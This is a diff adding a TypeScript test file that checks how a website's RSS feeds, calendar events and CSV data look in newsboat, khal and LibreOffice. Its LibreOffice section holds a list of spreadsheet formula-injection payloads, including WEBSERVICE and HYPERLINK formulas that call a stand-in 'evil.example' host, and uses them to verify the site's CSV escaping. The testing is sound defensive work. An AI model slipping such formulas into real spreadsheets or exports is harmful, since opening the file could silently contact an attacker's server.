@@ -1,0 +1,194 @@
+/**
+ * Programs that people read the site with, beside the browser: a feed reader, a
+ * calendar and a spreadsheet show what the files say.
+ */
+import { execFile } from 'node:child_process';
+import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { DatabaseSync } from 'node:sqlite';
+import { promisify } from 'node:util';
+import { XMLParser } from 'fast-xml-parser';
+import { afterAll, describe, expect, it } from 'vitest';
+import { toCsv } from '../../site/open-data/csv.ts';
+import { PLAIN, scratchFolder, serve } from '../testing/sites.ts';
+import { toolForTests } from '../testing/tools.ts';
+
+const newsboat = toolForTests('newsboat', { optional: true });
+const khal = toolForTests('khal', { optional: true });
+const soffice = toolForTests('soffice', { optional: true });
+
+const home = await scratchFolder('clients');
+afterAll(() => rm(home, { recursive: true, force: true }));
+
+/** Runs a program in a home of its own. @returns all that it printed. */
+async function run(program: string, ...args: readonly string[]): Promise<string> {
+  const env = { PATH: process.env['PATH'], LANG: 'C.UTF-8', HOME: home };
+  const { stdout, stderr } = await promisify(execFile)(program, args, { cwd: home, env });
+  return stdout + stderr;
+}
+
+describe.skipIf(!newsboat)('newsboat', () => {
+  interface Item {
+    title: string;
+    link: string;
+    pubDate: string;
+    'content:encoded': string;
+  }
+
+  it.each(['', 'topics/ai/'])(
+    'lists each item of /%srss.xml with its title, link, day and text',
+    async (path) => {
+      const { rss } = new XMLParser().parse(
+        await readFile(join(PLAIN.folder, path, 'rss.xml'), 'utf8'),
+      ) as { rss: { channel: { title: string; item: Item[] } } };
+      const server = await serve(PLAIN);
+      await writeFile(join(home, 'urls'), `${server.url}${path}rss.xml\n`);
+      const printed = await run(
+        newsboat ?? '',
+        ...['-u', 'urls', '-C', '/dev/null', '-c', `${path.length}.db`, '-x', 'reload'],
+      );
+      server.close();
+      expect(printed).toBe('');
+      const database = new DatabaseSync(join(home, `${path.length}.db`), { readOnly: true });
+      const feeds = database.prepare('SELECT title FROM rss_feed').all();
+      const items = database
+        .prepare('SELECT title, url, pubDate, content FROM rss_item WHERE NOT deleted ORDER BY url')
+        .all();
+      database.close();
+      expect(feeds).toEqual([{ title: rss.channel.title }]);
+      expect(items).toEqual(
+        rss.channel.item
+          .map((item) => ({
+            title: item.title,
+            url: item.link,
+            pubDate: Date.parse(item.pubDate) / 1000,
+            content: item['content:encoded'],
+          }))
+          .sort((a, b) => (a.url < b.url ? -1 : 1)),
+      );
+    },
+  );
+});
+
+describe.skipIf(!khal)('khal', () => {
+  /** The events of the fixtures, at the time in Tokyo, where the clocks never change. */
+  const EVENTS = [
+    '2021-11-16 – 2021-11-18 Smart City Expo World Congress 2021 (CONFIRMED)',
+    '2025-06-03 – 2025-06-03 Cities shaping their digital rights future at the CC4DR Annual Meeting 2025 (CONFIRMED)',
+    '2026-11-23 – 2026-11-25 Title of several-days (CONFIRMED)',
+    '2027-03-28 17:00 – 2027-03-28 18:00 Title of renamed (CONFIRMED)',
+    // It has no end; khal gives such an event an hour.
+    '2027-11-03 22:00 – 2027-11-03 23:00 Cancelled: Title of cancelled (CANCELLED)',
+  ];
+
+  it('shows each event on its days and at its time, once, also when it is imported again', async () => {
+    await writeFile(
+      join(home, 'khal.conf'),
+      `[calendars]
+[[events]]
+path = ${join(home, 'calendar')}
+[sqlite]
+path = ${join(home, 'khal.db')}
+[locale]
+local_timezone = Asia/Tokyo
+default_timezone = Asia/Tokyo
+timeformat = %H:%M
+dateformat = %Y-%m-%d
+longdateformat = %Y-%m-%d
+datetimeformat = %Y-%m-%d %H:%M
+longdatetimeformat = %Y-%m-%d %H:%M
+`,
+    );
+    await mkdir(join(home, 'calendar'));
+    const command = (...args: string[]) => run(khal ?? '', '-c', 'khal.conf', ...args);
+    const file = join(PLAIN.folder, 'events.ics');
+    for (let times = 0; times < 2; times += 1)
+      expect(await command('import', '--batch', '-a', 'events', file)).toBe('');
+    const listed = await command(
+      ...['list', '--once', '--day-format', '', '--format'],
+      '{start-long} – {end-long} {title} ({status})',
+      ...['2000-01-01', '2050-01-01'],
+    );
+    expect(listed.replaceAll(' )', ')').split('\n').filter(Boolean)).toEqual(EVENTS);
+  });
+});
+
+describe.skipIf(!soffice)('LibreOffice', () => {
+  const ATTACKS = [
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(1;1)',
+    '＝1+1',
+    ' =1+1',
+    "'=1+1",
+    '=HYPERLINK("https://evil.example/";"x")',
+    '=WEBSERVICE("https://evil.example/")',
+    'one;=1+1',
+    'two lines\n=1+1',
+  ];
+
+  /** Opens tables and saves them again: text in quotation marks; numbers, dates and what formulas give without. */
+  async function saved(
+    tables: Readonly<Record<string, string>>,
+    settings: string,
+  ): Promise<Record<string, string>> {
+    const files = Object.keys(tables);
+    for (const [file, csv] of Object.entries(tables)) await writeFile(join(home, file), csv);
+    await run(
+      soffice ?? '',
+      `-env:UserInstallation=file://${join(home, 'office')}`,
+      ...['--headless', `--infilter=CSV:${settings}`],
+      // All text quoted, cells as they are shown, and in place of formulas what they give.
+      ...['--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false'],
+      ...['--outdir', 'saved', ...files],
+    );
+    const texts = files.map(async (file) => [
+      file,
+      await readFile(join(home, 'saved', file), 'utf8'),
+    ]);
+    return Object.fromEntries((await Promise.all(texts)) as [string, string][]);
+  }
+
+  const FULL_DAY_OR_YEAR = /"(\d{4}(?:-\d\d-\d\d)?)"/g;
+
+  /**
+   * The settings of the import by their place, as in
+   * https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html:
+   * comma, quotation mark, UTF-8, from the first row, any column, any language;
+   * then whether quoted fields are text, and whether it looks for special numbers.
+   */
+  it.each([
+    [
+      'takes quoted fields for text',
+      '44,34,76,1,,0,true,false',
+      (csv: string) => csv.replace(/,(true|false)(?=,)/g, ',"$1"'),
+    ],
+    [
+      'guesses, and takes only a whole day for a date',
+      '44,34,76,1,,0,false,true',
+      (csv: string) =>
+        csv
+          .replace(FULL_DAY_OR_YEAR, '$1')
+          .replace(/,(?:true|false)(?=,)/g, (cell) => cell.toUpperCase()),
+    ],
+  ])('%s, gives back each cell in any script, and runs no formula of ours', async (...test) => {
+    const [, settings, expected] = test;
+    const cities = await readFile(join(PLAIN.folder, 'data', 'cities.csv'), 'utf8');
+    expect(cities).toMatch(/عمّان[^]*Αθήνα[^]*京都市/);
+    expect(cities).toMatch(FULL_DAY_OR_YEAR);
+    const attacks = toCsv(
+      ['text'],
+      ATTACKS.map((text) => [text]),
+    );
+    const tables = await saved(
+      { 'cities.csv': cities, 'attacks.csv': attacks, 'raw.csv': 'text\n=1+1\n' },
+      settings,
+    );
+    const plain = (csv: string) => csv.replace(/^\uFEFF/, '').replaceAll('\r\n', '\n');
+    expect(tables['cities.csv']).toBe(plain(expected(cities)));
+    expect(tables['attacks.csv']).toBe(plain(attacks));
+    // A formula that no apostrophe stops does run here.
+    expect(tables['raw.csv']).toBe('"text"\n2\n');
+  });
+});
